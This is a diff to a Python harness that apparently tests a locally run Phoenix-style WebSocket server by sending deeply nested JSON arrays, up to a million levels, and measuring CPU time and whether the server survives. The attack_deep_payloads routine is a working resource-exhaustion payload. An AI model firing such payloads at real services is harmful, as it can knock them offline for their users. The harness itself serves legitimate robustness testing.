@@ -16,6 +16,7 @@ import argparse
 import base64
 import json
 import os
+import re
 import resource
 import select
 import socket
@@ -66,6 +67,10 @@ def ws_frame(payload, opcode=0x1):
     return header + mask + masked
 
 
+# join_ref, ref, topic and event of a V2 text frame.
+HEADER = re.compile(rb'\[(null|"[^"]*"),(null|"([^"]*)"),"([^"]*)","([^"]*)"')
+
+
 class Reader:
     """Reads server frames (unmasked) from a socket."""
 
@@ -114,9 +119,14 @@ class Reader:
                 raise ConnectionError(f"closed by the server with {code}")
             if opcode != 0x1:
                 continue
-            msg = json.loads(payload)
-            if msg[1] == ref and msg[3] == "phx_reply":
-                return msg[4]
+            head = HEADER.match(payload)
+            if head and head.group(3) == ref.encode() and head.group(5) == b"phx_reply":
+                try:
+                    return json.loads(payload)[4]
+                except RecursionError:
+                    pass  # too deep for Python's recursive decoder: read the status only
+                status = re.search(rb'"status":"(\w+)"', payload[-200:]) or re.search(rb'"status":"(\w+)"', payload)
+                return {"status": status.group(1).decode() if status else "?"}
 
 
 def push(sock, join_ref, ref, topic, event, payload_text):
@@ -200,7 +210,11 @@ def attack_deep_payloads(server):
     rows = []
     for depth in (1_000, 10_000, 20_000, 100_000, 1_000_000):
         text = "[" * depth + "]" * depth
-        sock, reader = joined(server.port)
+        try:
+            sock, reader = joined(server.port)
+        except (OSError, ConnectionError, TimeoutError):
+            rows.append(f"  depth {depth:>9,}: cannot connect any more; server alive: {server.alive()}")
+            break
         before = server.cpu_seconds()
         start = time.monotonic()
         push(sock, "1", "2", "rooms:lobby", "echo", text)
@@ -212,6 +226,7 @@ def attack_deep_payloads(server):
         elapsed = time.monotonic() - start
         cpu = server.cpu_seconds() - before if server.alive() else float("nan")
         sock.close()
+        time.sleep(0.2)
         rows.append(
             f"  echo of [[…]] depth {depth:>9,} ({len(text) / 1e3:,.0f} KB): {outcome}, "
             f"{elapsed * 1e3:.0f} ms wall, {cpu * 1e3:.0f} ms server CPU, server alive: {server.alive()}"
